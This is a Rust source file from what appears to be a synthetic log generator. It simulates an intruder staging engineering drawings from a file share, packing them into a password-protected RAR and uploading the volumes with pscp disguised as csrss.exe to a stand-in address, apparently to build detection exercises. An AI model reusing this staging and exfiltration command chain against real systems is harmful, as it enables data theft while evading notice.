//! The client's drawings: mounted, copied, packed, sent out.

use super::{Actor, Step};
use crate::image;
use crate::net::Flow;
use crate::outside::DROP;
use crate::security::Way;
use crate::time::{MILLI, MINUTE, Moment, SECOND, rfc3339};
use crate::truth::Transfer;
use crate::world::{HM_FILE, HM_WS05, Process, SVC_MERIDIAN};

/// Bytes of a full volume: `-v200m`.
const VOLUME: u64 = 200 * 1024 * 1024;
const BIN: &str = r"C:\$Recycle.Bin\";
const SHARE: (&str, &str) = ("Projects", r"\??\D:\Projects");

impl Actor<'_> {
    /// The project share becomes a drive.
    pub(super) fn mount(&mut self, t: Moment, shell: &Process) {
        self.at(Step::ShareMount, &SVC_MERIDIAN);
        let net = self.run(
            t,
            shell,
            &image::NET,
            r"net use Z: \\HM-FILE01\Projects /user:HALVARD\svc-meridian *",
            8,
        );
        let from = (HM_WS05.get().ip, self.emit.port());
        let flow = Flow::tcp(t.plus(4 * SECOND), from, (HM_FILE.get().ip, 445), "gssapi,smb,ntlm")
            .bytes(4_100, 5_300)
            .lasting(5 * MINUTE);
        self.emit.connect(&self.emit.world.base(HM_WS05).system, &flow, "-");
        self.emit.explicit(t.plus(4_100 * MILLI), &net, &SVC_MERIDIAN, HM_FILE, None);
        self.emit.validated(t.plus(4_150 * MILLI), &SVC_MERIDIAN, HM_WS05.get().name);
        let way = Way::ntlm(from.0, from.1, HM_WS05.get().name);
        let logon = self.emit.logon(t.plus(4_200 * MILLI), HM_FILE, SVC_MERIDIAN, &way, 0);
        self.emit.share(t.plus(4_300 * MILLI), HM_FILE, &logon, from, SHARE);
        self.emit.logoff(t.plus(58 * MINUTE), HM_FILE, &logon, 3);
    }

    /// Drawings go from the share into the recycle bin.
    pub(super) fn stage(&mut self, t: Moment, shell: &Process, folder: &str, short: &str) {
        self.at(Step::RobocopyStaging, &SVC_MERIDIAN);
        let command = format!(r#"robocopy "Z:\{folder}" C:\$Recycle.Bin\{short} *.dwg *.pdf /S /R:0 /W:0"#);
        let copy = self.run(t, shell, &image::ROBOCOPY, command, 18 * 60);
        let from = (HM_WS05.get().ip, self.emit.port());
        let flow = Flow::tcp(t.plus(200 * MILLI), from, (HM_FILE.get().ip, 445), "gssapi,smb,ntlm")
            .bytes(2_400_000, 1_600_000_000 + self.emit.rng.below(200_000_000))
            .lasting(17 * MINUTE);
        self.emit.connect(&self.emit.world.base(HM_WS05).system, &flow, "-");
        let way = Way::ntlm(from.0, from.1, HM_WS05.get().name);
        let logon = self.emit.logon(t.plus(300 * MILLI), HM_FILE, SVC_MERIDIAN, &way, 0);
        self.emit.share(t.plus(350 * MILLI), HM_FILE, &logon, from, SHARE);
        for n in 1..=24 {
            let at = t.plus(n * 40 * SECOND);
            let ending = if n % 3 == 0 { "pdf" } else { "dwg" };
            let file = format!(r"Drawings\Section {n}.{ending}");
            self.emit.share_file(at, HM_FILE, &logon, from, SHARE, &[folder, r"\", &file]);
            self.emit.file(at.plus(300 * MILLI), &copy, &[BIN, short, r"\", &file]);
        }
        self.emit.logoff(t.plus(18 * MINUTE), HM_FILE, &logon, 3);
    }

    /// A whole night: on to the desk, copy what was not copied yet, pack, send.
    pub(super) fn theft(&mut self, t: Moment, shell: &Process, short: &str, archive: &str, parts: &[u64]) {
        let (there, _) = self.enter_client(t.plus(2 * MINUTE), shell, HM_WS05, 84);
        let folder = match short {
            "h417" => Some("Hull 417"),
            "offers" => Some(r"Hull 417\Offers"),
            "tests" => Some(r"Propulsion\Test reports"),
            _ => None,
        };
        let mut at = t.plus(6 * MINUTE);
        if let Some(folder) = folder {
            self.mount(at, &there);
            self.stage(at.plus(MINUTE), &there, folder, short);
            at = at.plus(20 * MINUTE);
        }
        let volumes: u64 = parts.iter().sum();
        self.pack(at, &there, short, archive, volumes);
        let mut first = 1;
        let mut at = at.plus(14 * MINUTE);
        for count in parts {
            at = self.send(at, &there, archive, first, *count, volumes);
            first += count;
        }
    }

    fn pack(&mut self, t: Moment, shell: &Process, short: &str, archive: &str, volumes: u64) {
        self.at(Step::RarArchive, &SVC_MERIDIAN);
        if archive == "d1" {
            self.emit.file(t.plus(-30 * SECOND), shell, &[image::TOOL_RAR.path]);
        }
        let command = format!(
            r"C:\$Recycle.Bin\r.exe a -r -v200m -hpFjord-{archive}-62 C:\$Recycle.Bin\{archive}.rar C:\$Recycle.Bin\{short}\"
        );
        let rar = self.run(t, shell, &image::TOOL_RAR, command, 13 * 60);
        for n in 1..=volumes {
            let part = format!("{archive}.part{n:02}.rar");
            self.emit.file(t.plus(SECOND + (n as i64 - 1) * 95 * SECOND), &rar, &[BIN, &part]);
        }
    }

    /// `count` volumes from `first` on leave in one connection. Returns the moment after it.
    fn send(
        &mut self,
        t: Moment,
        shell: &Process,
        archive: &str,
        first: u64,
        count: u64,
        volumes: u64,
    ) -> Moment {
        self.at(Step::PscpExfil, &SVC_MERIDIAN);
        if archive == "d1" && first == 1 {
            self.emit.file(t.plus(-40 * SECOND), shell, &[image::TOOL_PSCP.path]);
        }
        let files: Vec<String> =
            (first..first + count).map(|n| format!(r"C:\$Recycle.Bin\{archive}.part{n:02}.rar")).collect();
        // The last volume is not full; the protocol adds a little to each.
        let last = first + count > volumes;
        let missing = if last { 20_000_000 + self.emit.rng.below(150_000_000) } else { 0 };
        let bytes = count * VOLUME - missing + count * 61_000 + self.emit.rng.below(9_000);
        let lasting = (bytes / 4) as i64;
        let command = format!("csrss.exe -P 443 -pw Tidevann62 {} up@198.51.100.61:/in/", files.join(" "));
        let scp = self.run(t, shell, &image::TOOL_PSCP, command, lasting / SECOND + 4);
        let from = (HM_WS05.get().ip, self.emit.port());
        let flow = Flow::tcp(t.plus(800 * MILLI), from, (DROP, 443), "ssh")
            .bytes(bytes, bytes / 190)
            .lasting(lasting);
        let seen = self.emit.connect(&scp, &flow, "-").iter().any(Option::is_some);
        if seen {
            self.mark(flow.time, "zeek/client", "198.51.100.61");
        }
        self.transfers.push(Transfer {
            time: rfc3339(flow.time),
            host: HM_WS05.get().name.to_owned(),
            from: "10.20.1.35".to_owned(),
            to: "198.51.100.61".to_owned(),
            bytes,
            seen,
        });
        t.plus(lasting + MINUTE)
    }
}
